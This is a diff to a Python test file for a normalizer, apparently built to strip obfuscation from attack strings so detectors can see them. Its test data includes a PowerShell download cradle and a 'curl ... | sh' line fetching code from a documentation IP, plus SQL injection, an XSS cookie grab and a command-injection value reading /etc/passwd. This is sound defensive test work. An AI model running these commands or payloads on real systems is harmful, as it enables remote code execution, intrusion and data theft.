@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import random
+import re
 from urllib.parse import quote
 
 import pytest
@@ -11,12 +12,23 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from edge_demist import decoding
-from edge_demist.normalizers import NORMALIZERS, certificate, command, file_words, header, page, request, to_bytes
+from edge_demist.normalizers import (
+    NORMALIZERS,
+    cased_command,
+    certificate,
+    command,
+    file_words,
+    header,
+    page,
+    request,
+    to_bytes,
+    undisguised,
+)
 from tools.synth import evasion
 
 PLAIN = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zs", "Zl", "Zp", "Cf"]), min_size=1, max_size=40)
 CRADLE = "iex(new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1')"
-NEW = ("request", "cased_request", "command", "cased_command", "page", "file_words", "header", "certificate")
+NEW = ("request", "cased_request", "command", "cased_command", "page", "file_words", "header", "certificate", "undisguised")
 
 
 @given(PLAIN)
@@ -150,3 +162,28 @@ def test_changes_are_undone_where_the_target_undoes_them():
     line = "curl http://198.51.100.7/x | sh"
     for name in ("double blanks", "tabs for blanks", "30 blanks after each word", "IP as integer", "$IFS for blanks", "quotes in words"):
         assert command(evasion.COMMAND_CHANGES[name](rng, line)) == line, name
+
+
+@pytest.mark.parametrize("shown", ["Get-Item -Path HKLM:\\Software", "New-Object Net.WebClient", "ls -la /Users/anna", "SELECT", "ps aux"])
+def test_ordinary_case_stays_and_odd_case_goes(shown):
+    assert cased_command(shown) == (shown if shown != "SELECT" else "select")
+    assert cased_command(shown.upper()) == shown.upper().lower()
+    odd = "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate("powershell -hidden get-childitem"))
+    assert cased_command(odd) == "powershell -hidden get-childitem"
+
+
+@given(st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), min_size=12, max_size=60))
+def test_case_alone_differs_from_a_command_in_lower_case(text):
+    assert cased_command(text).lower() == command(text).lower() or re.search("[A-Z0-9+/=_-]{12}", text, re.IGNORECASE)
+
+
+@pytest.mark.parametrize(
+    "attack", ["1' UNION SELECT login FROM users -- ", "<script>alert(document.cookie)</script>", "/ping?host=1;cat /etc/passwd"]
+)
+def test_a_disguise_comes_off(attack):
+    plain = undisguised(attack)
+    looks = attack.translate(str.maketrans("aceiopxy", "асеіорху"))
+    whole = base64.b64encode(attack.encode()).decode()
+    for disguised in (quote(attack, safe=""), quote(quote(attack, safe=""), safe=""), attack.encode().hex(), whole, looks, attack.upper()):
+        assert undisguised(disguised) == plain
+    assert undisguised("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855").startswith("e3b0c44298fc")
